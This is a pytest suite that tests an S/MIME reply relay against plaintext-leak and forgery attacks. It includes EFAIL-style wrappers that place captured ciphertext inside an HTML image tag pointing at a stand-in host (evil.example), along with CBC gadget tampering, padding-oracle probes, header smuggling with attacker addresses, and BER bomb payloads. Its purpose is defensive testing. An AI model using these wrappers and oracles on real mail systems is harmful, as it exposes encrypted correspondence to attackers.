"""The classes of the attack list that want a relay to give away what it can decrypt, by number. The stranger holds a captured
ciphertext: an answer of the user's, or mail to them. In whatever form it is mailed to whatever address, its plaintext appears
nowhere: in no message that leaves, no letter, no answer, no log line, no file."""

import re
import secrets
import statistics
import time

import pytest

import canaries
import checks_reply
import judge
import messages
import pki
import reply
import smtp
from run import run
from test_promises import files_of
from test_reply import asked, token
from world import World

PADDINGS = 1000
SECRET = "plaintext-of-the-captured-5f2a"


@pytest.fixture(scope="module")
def world(hop, tmp_path_factory):
    w = World(hop, tmp_path_factory.mktemp("world"), sender_key="rsa2048")
    yield w
    w.close()


@pytest.fixture(scope="module")
def captured(world, client):
    """(the relayed message that it answers, its reverse address, the answer as it went over the wire: CBC, GCM). It was never
    delivered to the relay: the attacker was quicker."""
    done = asked(world)
    reverse = client.learn(done)
    blobs = {cipher: client.seal(messages.text(SECRET + "\n"), [reverse], cipher=cipher) for cipher in ("aes-128-cbc", "aes-256-gcm")}
    return done, reverse, blobs


@pytest.fixture(scope="module")
def strangers(world, tmp_path_factory):
    """The attacker: a user of the same relay, with a mailbox, a key and a reverse address of their own, and a correspondent
    that they own as well."""
    world.server.user("mallory")
    mailbox = world.server.mailbox("mallory", "mallory@mailbox.example")
    keys = world.server.issue(mailbox, sender_key="rsa2048")
    alias = world.server.alias("mallory")
    client = reply.Client(world.server.port, keys, world.folder, "Mallory Other")
    raw = messages.head("Eve <eve@evil.example>", alias, "x") + messages.text("x\n")
    engine = judge.OpenSsl(keys, tmp_path_factory.mktemp("mallory"))
    done = world.relay(messages.Mail("m", "eve@evil.example", raw, "x"), alias, engine)
    return client, client.learn(done), done, engine


@pytest.fixture(autouse=True)
def nowhere(world, hop, strangers):
    """The oracle's answer: whatever a test did, the plaintext is nowhere that anybody but the user reads."""
    since = len(hop.messages)
    yield
    world.relay(messages.plain(world.alias))  # what was to leave has left by now
    secret = SECRET.encode()
    for m in hop.messages[since:]:
        assert not any(secret in view for _, view in canaries.views(m.raw)), f"{m.rcpts}: {m.raw[:600]}"
        if m.rcpts == [strangers[0].keys.address]:
            assert secret not in judge.open_sealed(strangers[3], m.raw).message
        if m.rcpts == [world.mailbox]:
            opened = judge.open_sealed(world.judge, m.raw).message
            assert secret not in opened, "a letter quotes what was decrypted"
    assert SECRET not in world.server.log
    assert [n for n, data in files_of(world.server) if secret in data] == []


def wrapped(blob, eve="http://evil.example/?"):
    """EFAIL, direct exfiltration, and its relatives: the ciphertext inside of something that is the attacker's."""
    html = lambda text: messages.crlf("Content-Type: text/html; charset=utf-8\n\n" + text + "\n")  # noqa: E731
    yield "between two halves of a tag", messages.multipart("mixed", html(f'<img src="{eve}'), blob, html('">'))
    yield "in alternative", messages.multipart("alternative", messages.text("x\n"), blob)
    yield "in related", messages.multipart("related", html(f'<a href="{eve}">x</a>'), blob)
    yield "attached", messages.multipart("mixed", messages.text("see the attached\n"), blob)
    yield "attached as a message", messages.multipart("mixed", messages.text("x\n"),
                                                      b"Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\n" + blob)
    yield "a message alone", b"Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nSubject: x\r\n" + blob
    yield "in a mixed of one", messages.multipart("mixed", blob)
    yield "twice in a mixed of one", messages.multipart("mixed", messages.multipart("mixed", blob))
    yield "with a footer", messages.multipart("mixed", blob, messages.text("-- \nlist footer\n"))
    yield "as octets", blob.replace(b"application/pkcs7-mime", b"application/octet-stream", 1)
    yield "as plain text", b"Content-Type: text/plain\r\n\r\n" + judge.split(blob)[1]
    yield "a digest", messages.multipart("digest", b"\r\nFrom: a@b.example\r\n" + blob)
    yield "a report", messages.multipart("report; report-type=delivery-status", messages.text("x\n"), messages.crlf(
        "Content-Type: message/delivery-status\n\nReporting-MTA: dns; x.example\n"), b"Content-Type: message/rfc822\r\n\r\n" + blob)


WRAPPED = [name for name, _ in wrapped(b"Content-Type: application/pkcs7-mime\r\n\r\nx")]


@pytest.mark.parametrize("form", WRAPPED)
@pytest.mark.parametrize("cipher", ["aes-128-cbc", "aes-256-gcm"])
def test_attack_1_4_captured_and_wrapped(world, client, captured, strangers, cipher, form):
    """From the user's envelope to the right address, unsigned around; from the attacker to hers, signed by her."""
    done, reverse, blobs = captured
    entity = dict(wrapped(blobs[cipher]))[form]
    mallory, hers, theirs, _ = strangers
    # These are the captured answer itself, which may go to whom it was written for: that is no oracle. A report goes nowhere, with
    # 250. All of them go to the attacker's address.
    if form not in ("in a mixed of one", "twice in a mixed of one", "as octets", "a report"):
        sent = client.send(reply.Letter([reverse], client.head([reverse], "Re: x", answers=done) + entity, entity))
        assert sent.dot is None or sent.dot.code // 100 == 5, f"{sent.dot}"
    for e in (entity, mallory.sign(entity), mallory.encrypt(mallory.sign(entity), [hers])):
        mallory.send(reply.Letter([hers], mallory.head([hers], "Re: x", answers=theirs) + e, e))


@pytest.mark.parametrize("cipher", ["aes-128-cbc", "aes-256-gcm"])
def test_attack_4_captured_and_mailed_elsewhere(world, client, captured, strangers, cipher):
    """Bare, to every address there is: the user's other reverse addresses, the attacker's, the alias, a report's token."""
    done, reverse, blobs = captured
    blob = blobs[cipher]
    other = client.learn(asked(world, sender="eve@evil.example", name="Eve"))
    mallory, hers, _, _ = strangers
    for rcpt, sender in [(other, client.keys.address), (other, ""), (reverse, "stranger@evil.example"), (hers, mallory.keys.address),
                         (hers, client.keys.address), (reverse, mallory.keys.address), (done.wire.sender, ""),
                         (world.alias, "eve@evil.example")]:
        raw = client.head([rcpt], "x") + blob
        client.send(reply.Letter([rcpt], raw, blob), sender=sender)


def content(der):
    """(offset, length) of the encrypted content in a BER or DER enveloped message made with -outform DER, not streamed."""
    out = run("openssl", "asn1parse", "-inform", "DER", data=der)[1].decode()
    at = [(int(m[1]), int(m[2]), int(m[3])) for m in re.finditer(r"(\d+):d=\d+\s+hl=(\d+)\s+l=\s*(\d+) prim: cont \[ 0 \]", out)]
    start, head, length = max(at, key=lambda x: x[2])
    return start + head, length


def gadgets(der, known, wanted):
    """EFAIL, CBC gadgets: ciphertext blocks moved, doubled, and turned by what is known of the plaintext into what is wanted."""
    at, length = content(der)
    body = der[at:at + length]
    flipped = bytearray(body)
    for i in range(16):
        flipped[i] ^= known[i] ^ wanted[i]
    yield "first block turned", der[:at] + bytes(flipped) + der[at + length:]
    yield "blocks swapped", der[:at] + body[16:32] + body[:16] + body[32:] + der[at + length:]
    yield "a block doubled", der[:at] + body[:32] + body[16:32] + body[48:] + der[at + length:]
    yield "the last block changed", der[:at] + body[:-1] + bytes([body[-1] ^ 1]) + der[at + length:]
    yield "the second last changed", der[:at] + body[:-17] + bytes([body[-17] ^ 0x80]) + body[-16:] + der[at + length:]


def test_attack_2_cbc_gadgets(world, client, captured):
    """Malleable ciphertext of the user's, altered, from the user's own envelope: all refused, all alike."""
    done, reverse, _ = captured
    for layers in ("sign", ""):
        inner = client.sign(messages.text(SECRET + "\n")) if layers else messages.text(SECRET + "\n")
        der = client.envelope(inner, [reverse], form="der")
        answers = set()
        for _, altered in gadgets(der, inner[:16], b"Content-Type: te"):
            entity = reply.smime("enveloped-data", altered)
            sent = client.send(reply.Letter([reverse], client.head([reverse], "Re: x", answers=done) + entity, entity))
            answers.add(str(sent.dot))
        assert len(answers) == 1 and answers.pop().startswith("550 "), answers


def test_attack_3_gcm_called_cbc(world, client, captured):
    """RFC 9709: the same blob under another label answers as every failure does."""
    done, reverse, blobs = captured
    der = judge.der_of(judge.split(client.encrypt(client.sign(messages.text(SECRET + "\n")), [reverse], cipher="aes-256-gcm",
                                                  form="der"))[1])
    gcm, cbc = bytes.fromhex("60864801650304012e"), bytes.fromhex("60864801650304012a")
    assert gcm in der
    auth, plain = bytes.fromhex("060b2a864886f70d0109100117"), bytes.fromhex("06092a864886f70d010703")
    answers = set()
    for blob in (der.replace(gcm, cbc), der.replace(auth, plain), der.replace(gcm, cbc).replace(auth, plain), der[:-20] + b"\0" * 20,
                 client.envelope(messages.text("x\n"), [], form="der")):
        for kind in ("enveloped-data", "authEnveloped-data"):
            entity = reply.smime(kind, blob)
            answers.add(str(client.send(reply.Letter([reverse], client.head([reverse], "Re: x", answers=done) + entity, entity)).dot))
    assert len(answers) <= 2 and all(a.startswith("550 ") for a in answers), answers


def test_attack_5_an_error_after_decryption_tells_nothing(world, client, captured):
    """Opened, and refused afterwards, for each reason: signature, strangers, unreadable parts. (What is everywhere asked after
    each test here: no file, no log, no letter holds the plaintext.)"""
    done, reverse, _ = captured
    entities = [client.seal(messages.crlf(f"Content-Type: text/plain; charset=x-none\n\n{SECRET}\n"), [reverse]),
                client.encrypt(messages.text(SECRET + "\n"), [reverse]),
                client.encrypt(client.sign(messages.text(SECRET + "\n")).replace(b"plaintext-of", b"plaintexts-of"), [reverse]),
                client.seal(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 1100 + SECRET.encode(),
                            [reverse])]
    for entity in entities:
        for cc in ([], ["friend@elsewhere.example"]):
            letter = reply.Letter([reverse], client.head([reverse], f"Re: {SECRET[:9]}", cc, answers=done) + entity, entity)
            sent = client.send(letter)
            assert sent.dot.code == 550, str(sent.dot)


def rsa_block(der):
    """(offset, length) of the first RSA-encrypted content key."""
    out = run("openssl", "asn1parse", "-inform", "DER", data=der)[1].decode()
    m = re.search(r"(\d+):d=\d+\s+hl=(\d+)\s+l=\s*256 prim: OCTET STRING", out)
    return int(m[1]) + int(m[2]), 256


def test_attack_6_bad_paddings_are_all_alike(world, hop, client, captured):
    """Bleichenbacher and Vaudenay: content keys that are noise, and last blocks that are noise: one answer for all, and not one
    letter more. (One in 256 paddings is right by chance, and then the signature does not hold.) How long they take is shown;
    tests/bench/reply_oracles.py judges it."""
    done, reverse, _ = captured
    der = client.envelope(client.sign(messages.text("words\n")), [reverse], form="der", own=False)
    key_at, key_length = rsa_block(der)
    at, length = content(der)
    head = client.head([reverse], "Re: x", answers=done)
    answers, times = set(), {"key": [], "padding": []}
    client.send(reply.Letter([reverse], head + client.encrypt(b"x", [reverse]), b""))  # the letter of this hour
    world.server.wait_queue(0)
    since = len(hop.messages)
    for i in range(PADDINGS):
        kind = "key" if i % 2 else "padding"
        blob = bytearray(der)
        if kind == "key":
            blob[key_at:key_at + key_length] = b"\0" + secrets.token_bytes(key_length - 1)
        else:
            blob[at + length - 32:at + length - 16] = secrets.token_bytes(16)
        if i % 50 == 0:  # a session has no more refusals than that
            connection = smtp.Smtp(world.server.port)
        start = time.perf_counter()
        sent = connection.send(client.keys.address, reverse, head + reply.smime("enveloped-data", bytes(blob)))
        times[kind].append(time.perf_counter() - start)
        answers.add(str(sent.dot))
    assert answers == {"550 5.7.1 this answer was not sent on: a sealed letter tells its writer why"}
    time.sleep(1)
    assert len(hop.messages) == since, "a letter tells what became of one of them"
    print({k: [round(q * 1000, 2) for q in statistics.quantiles(v, n=4)] for k, v in times.items()}, "ms, quartiles")


# What a decryption may turn into, when somebody turns the ciphertext in the dark. Nobody has signed it: it must not matter.
DARK = {
    "text": messages.text("words\n"), "an unknown charset": messages.crlf("Content-Type: text/plain; charset=x-none\n\nx\n"),
    "broken base64": messages.crlf("Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!\n"),
    "an unknown encoding": messages.crlf("Content-Type: text/plain\nContent-Transfer-Encoding: x-none\n\nx\n"),
    "noise": bytes(range(256)), "nothing": b"", "no header": b"\r\nx\r\n",
    "too deep": b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(60)) + b"\r\nx\r\n",
    "too many addresses": messages.text(" ".join(f"{i}@relay.example" for i in range(400)) + "\n"),
    "too many parts": b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 1100 + b"--b--\r\n",
    "a multipart without an end": messages.crlf("Content-Type: multipart/mixed; boundary=b\n\n--b\n\nx\n"),
    "a calendar in pieces": messages.crlf("Content-Type: text/calendar; method=REPLY\n\nBEGIN:VCALENDAR\nATTENDEE\n"),
    "another ciphertext": reply.smime("enveloped-data", b"\x30\x03\x02\x01\x00"), "a receipt": messages.multipart(
        "report; report-type=disposition-notification", messages.text("x\n"),
        messages.crlf("Content-Type: message/disposition-notification\n\nx: y\n")),
    "strangers": b"To: <friend@elsewhere.example>\r\n" + messages.text("x\n").replace(b"charset=", b'hp="cipher"; charset=', 1),
    "automatic": b"Auto-Submitted: auto-replied\r\n" + messages.text("x\n").replace(b"charset=", b'hp="cipher"; charset=', 1),
    "a foreign signature that is broken": reply.multipart_signed(messages.text("x\n"), b"\x30\x03\x02\x01\x00"),
}


@pytest.mark.parametrize("cipher", ["aes-128-cbc", "aes-256-gcm"])
def test_attack_6_what_came_of_it_is_not_told(world, client, captured, cipher):
    """Encrypted, and signed by nobody: whatever it holds, the answer is the one that altered ciphertext gets."""
    done, reverse, _ = captured
    answers = {}
    for name, inner in DARK.items():
        if not inner and "gcm" in cipher:  # openssl writes none
            continue
        entity = client.encrypt(inner, [reverse], cipher=cipher)
        sent = client.send(reply.Letter([reverse], client.head([reverse], "Re: x", answers=done) + entity, entity))
        answers.setdefault(str(sent.dot), []).append(name)
    der = bytearray(client.envelope(b"x" * 100, [reverse], cipher=cipher))
    der[-40] ^= 1
    entity = reply.smime("enveloped-data", bytes(der))
    answers.setdefault(str(client.send(reply.Letter([reverse], client.head([reverse], "Re: x", answers=done) + entity,
                                                    entity)).dot), []).append("altered")
    assert len(answers) == 1 and next(iter(answers)).startswith("550 "), answers


def test_attack_7_a_replay_is_not_sent(world, client):
    """The same bytes: 250, and nothing. With another header, another wrapping, another recipient: refused."""
    done, says = asked(world), token()
    letter = client.reply(done, messages.text(says + "\n"))
    world.answer(client, letter)
    since = len(world.hop.messages)
    assert client.send(letter).ok
    entity = re.search(rb"Content-Type: application/pkcs7-mime.*", letter.raw, re.S)[0]
    for head in (client.head(letter.rcpts, "Re: another subject", answers=done),
                 client.head(letter.rcpts, "Re: x", mid="<n@mailbox.example>")):
        sent = client.send(reply.Letter(letter.rcpts, head + entity, entity))
        assert sent.ok or sent.dot.code == 550
    world.relay(messages.plain(world.alias))
    assert not any(says in checks_reply.texts(m.raw) for m in world.hop.messages[since:])


def test_attack_8_surreptitious_forwarding(world, client):
    """Olga may not be honest: what was written to her, signed, encrypted anew by her to the bank's reverse address. She has not
    got the signature, for it is taken off; the provider of the user's Sent folder might."""
    done, says = asked(world), token()
    client.learn(done)
    signed = client.sign(messages.text(says + "\n"))
    (wire,) = world.answer(client, client.reply(done, signed, layers="encrypt"))
    assert b"pkcs7" not in wire.raw
    bank = asked(world, sender="bank@money.example", name="Bank")
    world.refused(client, client.reply(bank, signed, layers="encrypt"))
    world.refused(client, client.reply(bank, signed, layers=""))


def test_attack_9_nothing_of_a_stranger_leaves_as_the_users(world, client, strangers):
    """A stranger's text goes out neither from the alias nor signed as the user."""
    mallory, _, _, _ = strangers
    done = asked(world)
    reverse = client.learn(done)
    entity = mallory.seal(messages.text("forged words\n"), [client.known[reverse]])
    for sender in (client.keys.address, "", mallory.keys.address):
        sent = client.send(reply.Letter([reverse], client.head([reverse], "x", answers=done) + entity, entity), sender=sender)
        assert sent.dot is None or sent.dot.code == 550 or sender == ""
    since = len(world.hop.messages)
    world.relay(messages.plain(world.alias))
    assert not any(b"forged words" in m.raw for m in world.hop.messages[since:])


def test_attack_10_content_inside_and_detached(world, client, captured):
    """CVE-2018-18509: an opaque signature as the second part, around other words than the first part shows."""
    done, reverse, _ = captured
    opaque = judge.der_of(judge.split(client.sign(messages.text("signed words\n"), "opaque"))[1])
    entity = reply.multipart_signed(messages.text("other words\n"), opaque)
    for e in (entity, client.encrypt(entity, [reverse])):
        sent = client.send(reply.Letter([reverse], client.head([reverse], "x", answers=done) + e, e))
        assert sent.dot.code == 550


def test_attack_11_every_signer_must_be_the_user(world, client, captured, strangers):
    """Two signers, one of them a stranger; and none at all."""
    done, reverse, _ = captured
    mallory = strangers[0]
    part = messages.text("two signers\n")
    _, both, _ = run("openssl", "cms", "-sign", "-binary", "-outform", "DER", "-md", "sha256", "-signer",
                     client.keys.path("user.crt"), "-inkey",
                     client.keys.path("user.key"), "-signer", mallory.keys.path("user.crt"), "-inkey",
                     mallory.keys.path("user.key"), data=part)
    degenerate = run("openssl", "crl2pkcs7", "-nocrl", "-certfile", client.keys.path("user.crt"), "-outform", "DER")[1]
    for der in (both, degenerate):
        entity = reply.multipart_signed(part, der)
        for e in (entity, client.encrypt(entity, [reverse])):
            sent = client.send(reply.Letter([reverse], client.head([reverse], "x", answers=done) + e, e))
            assert sent.dot.code == 550


def test_attack_14_a_signed_part_is_not_a_signed_message(world, client, captured):
    done, reverse, _ = captured
    entity = messages.multipart("mixed", messages.text("words that nobody signed\n"), client.sign(messages.text("signed\n")))
    for e in (entity, client.encrypt(entity, [reverse])):
        sent = client.send(reply.Letter([reverse], client.head([reverse], "x", answers=done) + e, e))
        assert sent.dot.code == 550


def test_attack_16_inner_headers_are_believed_by_rule(world, client):
    """Bcc, Return-Path, Received, Authentication-Results, Resent: not from inside, marked or not."""
    done, says = asked(world), token()
    reverse = client.learn(done)
    inner = ("Bcc: evil@evil.example\r\nResent-To: evil@evil.example\r\nReturn-Path: <evil@evil.example>\r\nReceived: from evil.example\r\n"
             "Authentication-Results: relay.example; pass\r\nX-Evil: yes\r\nReply-To: evil@evil.example\r\n"
             f"Subject: inner\r\nTo: {reverse}\r\nFrom: {client.keys.address}\r\n").encode()
    entity = inner + messages.text(says + "\n").replace(b"charset=utf-8", b'charset=utf-8; hp="cipher"', 1)
    since = len(world.hop.messages)
    sent = client.send(client.reply(done, entity))
    world.relay(messages.plain(world.alias))
    out = [m for m in world.hop.messages[since:] if m.rcpts != [world.mailbox]]
    assert (sent.ok and len(out) == 1) or (sent.dot.code == 550 and not out)
    for m in out:
        assert m.rcpts == ["olga@shop.example"] and b"evil" not in m.raw.lower()


def test_attack_28_one_envelope_knows_one_recipient(world, client, captured):
    """What is relayed to the user afterwards names no other key."""
    done = captured[0]
    assert judge.recipients(done.opened.sealed) == 1


BER = {
    "60 signatures in one blob": lambda c, r: matryoshka(c, 60),
    "8 layers": lambda c, r: layers_of(c, 8),
    "indefinite nesting": lambda c, r: reply.smime("enveloped-data", b"\x30\x80" * 20000),
    "2 GiB announced": lambda c,
    r: reply.smime("enveloped-data", bytes.fromhex("30847fffffff06092a864886f70d010703a084") + b"\x7f\xff\xff\xf0"),
    "pieces of one byte": lambda c, r: pieces(c, r),
    "300 recipients": lambda c, r: crowd(c, r),
    "empty": lambda c, r: reply.smime("enveloped-data", b""),
    "not base64": lambda c,
    r: messages.crlf("Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n\n\x01\x02 this is it\n"),
    "cut off": lambda c, r: reply.smime("enveloped-data", c.envelope(messages.text("x\n"), [r])[:-30]),
    "with a tail": lambda c, r: reply.smime("enveloped-data", c.envelope(messages.text("x\n"), [r], form="der") + b"tail"),
    "compressed": lambda c,
    r: reply.smime("compressed-data", bytes.fromhex("301a060b2a864886f70d0109100109a00b3009020100300006003000")),
}


def layers_of(client, n):
    entity = messages.text("deep\n")
    for _ in range(n):
        entity = client.sign(entity, "opaque", options=["-nocerts"])
    return entity


def matryoshka(client, n):
    """SignedData in SignedData in ..., without MIME between them."""
    der, options = messages.text("deep\n"), []
    for _ in range(n):
        der = run("openssl", "cms", "-sign", "-binary", "-nodetach", "-nocerts", "-outform", "DER", "-md", "sha256", "-signer",
                  client.keys.path("user.crt"), "-inkey", client.keys.path("user.key"), *options, data=der)[1]
        options = ["-econtent_type", "pkcs7-signedData"]
    return reply.smime("signed-data", der)


def pieces(client, reverse):
    """The encrypted content as a constructed string of one-byte pieces."""
    der = client.envelope(client.sign(messages.text("y" * 3000 + "\n")), [reverse], form="der", own=False)
    at, length = content(der)
    start = at - 4
    made = b"\xa0\x80" + b"".join(b"\x04\x01" + der[i:i + 1] for i in range(at, at + length)) + b"\0\0"
    assert der[start] == 0x80
    out = der[:start] + made
    # the outer lengths become indefinite
    return reply.smime("enveloped-data", indefinite(out))


def indefinite(der):
    """Outer SEQUENCE, [0] and SEQUENCE of a ContentInfo with indefinite lengths, and EncryptedContentInfo."""
    def head(at):
        return at + 2 + (der[at + 1] & 0x7f if der[at + 1] & 0x80 else 0)

    out = b"\x30\x80"
    at = head(0)
    oid = der[at:at + 11]
    at += 11
    out += oid + b"\xa0\x80"
    at = head(at)
    out += b"\x30\x80"
    at = head(at)
    version = der[at:at + 3]
    at += 3
    set_end = head(at) + int.from_bytes(der[at + 2:head(at)], "big") if der[at + 1] & 0x80 else head(at) + der[at + 1]
    out += version + der[at:set_end] + b"\x30\x80" + der[head(set_end):]
    return out + b"\0\0" * 4


def crowd(client, reverse):
    out = run("openssl", "cms", "-encrypt", "-binary", "-outform", "DER", "-aes-128-cbc",
              *[a for _ in range(300) for a in ("-recip", client.known[reverse])], data=messages.text("x\n"))[1]
    return reply.smime("enveloped-data", out)


@pytest.mark.parametrize("name", BER)
def test_attack_29_bombs_are_bounded(world, client, captured, name):
    """Refused or taken, within seconds; and the next answer goes its way."""
    done, reverse, _ = captured
    entity = BER[name](client, reverse)
    start = time.monotonic()
    sent = client.send(reply.Letter([reverse], client.head([reverse], "x", answers=done) + entity, entity))
    taken = {"pieces of one byte"}  # it is right, only strange
    assert time.monotonic() - start < 5 and sent.dot is not None and (sent.dot.code == 250
                                                                      if name in taken else sent.dot.code // 100 == 5), str(sent.dot)
    says = token()
    (wire,) = world.answer(client, client.reply(done, messages.text(says + "\n")))
    assert says in checks_reply.texts(wire.raw)


def test_attack_34_nothing_is_fetched(world, client, tmp_path):
    """A certificate with an address to ask: nobody calls there."""
    import socket
    with socket.socket() as trap:
        trap.bind(("127.0.0.1", 0))
        trap.listen()
        trap.settimeout(1.0)
        url = f"http://127.0.0.1:{trap.getsockname()[1]}/"
        run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-noenc", "-keyout", tmp_path / "user.key", "-out",
            tmp_path / "user.crt", "-days", "9",
            "-subj", "/CN=x", "-addext", f"authorityInfoAccess=OCSP;URI:{url},caIssuers;URI:{url}", "-addext",
            f"crlDistributionPoints=URI:{url}",
            "-addext", "subjectAltName=email:alice@mailbox.example")
        world.refused(client, client.reply(asked(world), messages.text("x\n"), keys=judge.Keys(tmp_path, "alice@mailbox.example")))
        with pytest.raises(TimeoutError):
            trap.accept()


def test_attack_52_a_stranger_is_refused_by_key_not_by_from(world, client, strangers):
    """Envelope and From are the user's, the words are not."""
    mallory = strangers[0]
    done = asked(world)
    said = world.refused(client, client.reply(done, messages.text("forged\n"), keys=mallory.keys))
    assert said.code == 550


def test_attack_53_recipients_of_others(world, client, strangers):
    """Reply-All to reverse addresses of somebody else, to strangers, to several: nobody gets it."""
    done = asked(world)
    own = client.learn(done)
    for cc in ([strangers[1]], ["friend@elsewhere.example"], [world.mailbox.replace("alice", "bob")],
               ["made-up-address@relay.example"]):
        letter = client.reply(done, messages.text("to all\n"), cc=cc, rcpts=[own])
        assert world.refused(client, letter).code == 550
    letter = client.reply(done, messages.text("hidden\n"), rcpts=[own], more=["Bcc: friend@elsewhere.example"])
    sent = client.send(letter)
    assert not sent.ok or all("friend" not in r for m in world.hop.messages for r in m.rcpts)


def test_attack_54_the_times_of_unknown_and_foreign_are_reported(world, client, strangers):
    """The answers are equal to the letter; how long they take is shown (tests/bench holds the judgement)."""
    own = client.learn(asked(world))
    foreign, times, answers = strangers[1], {"foreign": [], "unknown": []}, set()
    for i in range(200):
        name = "foreign" if i % 2 else "unknown"
        rcpt = foreign if i % 2 else secrets.token_hex(13) + "@relay.example"
        with smtp.Smtp(world.server.port) as c:
            c.cmd(f"MAIL FROM:<{client.keys.address}>")
            start = time.perf_counter()
            answers.add(str(c.cmd(f"RCPT TO:<{rcpt}>")))
            times[name].append(time.perf_counter() - start)
    print({k: [round(q * 1e6) for q in statistics.quantiles(v, n=4)] for k, v in times.items()}, "us, quartiles")
    assert len(answers) == 1 and answers.pop().startswith("550 ") and own


def test_attack_55_guesses_are_endless_and_none_hits(world, client):
    """A reverse address says nothing of another: no two of a user share a letter of pattern, and near ones are unknown."""
    found = [client.learn(asked(world, sender=f"p{i}@shop.example", name=f"P {i}")) for i in range(5)]
    locals_ = [a.partition("@")[0] for a in found]
    assert all(len(set(a)) >= 8 and len(a) >= 20 for a in locals_), locals_
    assert all(a[:6] != b[:6] for a in locals_ for b in locals_ if a is not b)
    for guess in (locals_[0][:-1] + ("a" if locals_[0][-1] != "a" else "b"), locals_[0][1:], locals_[0] + "a"):
        with smtp.Smtp(world.server.port) as c:
            c.cmd(f"MAIL FROM:<{client.keys.address}>")
            assert c.cmd(f"RCPT TO:<{guess}@relay.example>").code == 550


def test_attack_44_48_files_that_name_their_writer(world, client):
    """winmail.dat, vCards and key files are taken out; the text beside them goes."""
    done, flock = asked(world), canaries.flock_of(client.keys)
    for place in ("winmail.dat", "vcard", "vcard as octets", "pgp key", "certificate", "certificate as octets"):
        entity = canaries.PLACES[place].build(flock)[1]
        (wire,) = world.answer(client, client.reply(done, entity))
        assert canaries.leaks(wire.raw, flock) == [] and canaries.SAYS in checks_reply.texts(wire.raw)
